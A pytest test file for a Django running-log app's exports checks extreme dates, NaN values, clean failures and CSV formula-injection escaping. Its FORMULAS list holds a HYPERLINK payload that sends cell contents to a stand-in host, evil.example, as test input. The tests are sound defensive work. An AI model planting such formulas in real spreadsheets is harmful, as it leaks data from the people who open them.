"""Exports are complete or fail before their first byte (reliability.md "exports"), and CSV cells are
neutralised against formula injection."""

import csv
import datetime as dt
import io
import json
import logging
import zipfile

import pytest
import time_machine
from django.db import connection

from runlog.log.models import CrossTraining, Profile, Run
from tests.factories import CrossTrainingFactory, RunFactory, ShoeFactory

NOW = dt.datetime(2026, 11, 25, 12, 0, tzinfo=dt.UTC)
EXPORTS = ["/export/account.json", "/export/account.zip", "/export/runs.csv", "/export/cross-training.csv"]


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def body(response) -> bytes:
    data = b"".join(response.streaming_content) if response.streaming else response.content
    if response.status_code == 200:
        assert int(response["Content-Length"]) == len(data)
    return data


def strict_json(data: bytes) -> dict:
    """JSON as any other reader takes it: NaN and Infinity are not JSON."""

    def refuse(constant):
        raise AssertionError(f"{constant} is not JSON")

    return json.loads(data, parse_constant=refuse)


def account(url: str, data: bytes) -> dict:
    if url.endswith(".zip"):
        data = zipfile.ZipFile(io.BytesIO(data)).read("account.json")
    return strict_json(data)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def in_zone(user, zone: str) -> None:
    Profile.objects.filter(user=user).update(timezone=zone)


@pytest.mark.parametrize(
    ("stored", "zone"),
    [
        (dt.datetime(1, 1, 1, tzinfo=dt.UTC), "America/New_York"),
        (dt.datetime(9999, 12, 31, 23, 0, tzinfo=dt.UTC), "Pacific/Kiritimati"),
    ],
)
def test_a_session_stored_at_an_extreme_date_is_exported_in_full(alice, alice_client, stored, zone):
    run = RunFactory(user=alice, notes="the odd one")
    RunFactory(user=alice, start=dt.datetime(2026, 11, 20, 7, tzinfo=dt.UTC), notes="a normal run")
    session = CrossTrainingFactory(user=alice, notes="odd session")
    Run.objects.filter(pk=run.pk).update(start=stored)  # past the form, as an old version or the admin did
    CrossTraining.objects.filter(pk=session.pk).update(start=stored)
    in_zone(alice, zone)
    odd = 0 if stored.year == 1 else -1  # sorted by start: first or last

    for url in EXPORTS:
        response = alice_client.get(url)
        assert response.status_code == 200, url
        data = body(response)
        if url.endswith(".csv"):
            rows = csv_rows(data)
            assert len(rows) == (3 if "runs" in url else 2), url
            assert rows[1:][odd if "runs" in url else 0][0] == stored.isoformat()  # the zone cannot express it: UTC
        else:
            document = account(url, data)
            assert sorted(r["notes"] for r in document["runs"]) == ["a normal run", "the odd one"]
            assert document["runs"][odd]["start"] == stored.isoformat()
            assert document["cross_training"][0]["notes"] == "odd session"
            assert list(document)[-1] == "plans"


def test_infinite_and_not_a_number_values_are_exported_empty_not_as_invalid_json(alice, alice_client):
    run = RunFactory(user=alice, notes="inf")
    session = CrossTrainingFactory(user=alice)
    Run.objects.filter(pk=run.pk).update(distance_m=float("inf"), elevation_gain_m=float("-inf"))
    # SQLite keeps NaN as NULL; PostgreSQL keeps the NaN itself. Either way nothing invalid goes out.
    Run.objects.filter(pk=run.pk).update(avg_cadence_spm=float("nan"))
    CrossTraining.objects.filter(pk=session.pk).update(distance_m=float("inf"))

    document = account("/export/account.json", body(alice_client.get("/export/account.json")))
    (item,) = document["runs"]
    assert (item["distance_km"], item["elevation_gain_m"], item["avg_cadence_spm"]) == (None, None, None)
    assert document["cross_training"][0]["distance_km"] is None
    runs = csv_rows(body(alice_client.get("/export/runs.csv")))
    assert (runs[1][1], runs[1][9]) == ("", "")
    assert csv_rows(body(alice_client.get("/export/cross-training.csv")))[1][4] == ""


def corrupt_start(table: str) -> None:
    """A stored start no driver can read back: text on SQLite, PostgreSQL's 'infinity' timestamp."""
    value = "not a date" if connection.vendor == "sqlite" else "infinity"
    with connection.cursor() as cursor:
        cursor.execute(f"UPDATE {table} SET start = %s", [value])


@pytest.mark.parametrize("url", EXPORTS)
def test_an_unreadable_row_answers_an_error_page_never_a_truncated_download(alice, alice_client, caplog, url):
    for day in range(1, 4):
        RunFactory(user=alice, start=dt.datetime(2026, 11, day, 7, tzinfo=dt.UTC))
        CrossTrainingFactory(user=alice, start=dt.datetime(2026, 11, day, 18, tzinfo=dt.UTC))
    corrupt_start("runlog_crosstraining" if "cross-training" in url else "runlog_run")

    with caplog.at_level(logging.ERROR, logger="runlog.security"):
        response = alice_client.get(url)

    assert response.status_code == 500
    assert not response.streaming and "Content-Disposition" not in response
    assert b"The export could not be built" in response.content
    assert any("export failed" in record.getMessage() for record in caplog.records)


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_runner_text_that_a_spreadsheet_would_run_is_neutralised_in_the_runs_csv(alice, alice_client, formula):
    RunFactory(user=alice, notes=formula, shoe=ShoeFactory(user=alice, name=formula), distance_m=12_345)

    (_, row) = csv_rows(body(alice_client.get("/export/runs.csv")))

    assert row[11] == "'" + formula and row[5] == "'" + formula
    assert row[1] == "12.345" and row[2] == "3000"  # numbers stay numbers


@pytest.mark.parametrize("formula", FORMULAS)
def test_runner_text_that_a_spreadsheet_would_run_is_neutralised_in_the_cross_training_csv(
    alice, alice_client, formula
):
    session = CrossTrainingFactory(user=alice, notes=formula)
    CrossTraining.objects.filter(pk=session.pk).update(distance_m=20_500)

    (_, row) = csv_rows(body(alice_client.get("/export/cross-training.csv")))

    assert row[6] == "'" + formula
    assert row[2:5] == ["3600", "4", "20.500"]


def test_ordinary_notes_are_left_as_they_are(alice, alice_client):
    RunFactory(user=alice, notes="Easy 10k = good; felt +")

    (_, row) = csv_rows(body(alice_client.get("/export/runs.csv")))

    assert row[11] == "Easy 10k = good; felt +"


def test_the_json_backup_is_sent_complete_with_its_length(alice, alice_client):
    RunFactory(user=alice, notes="é ünïcode ✓")

    response = alice_client.get("/export/account.json")

    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    assert strict_json(body(response))["runs"][0]["notes"] == "é ünïcode ✓"
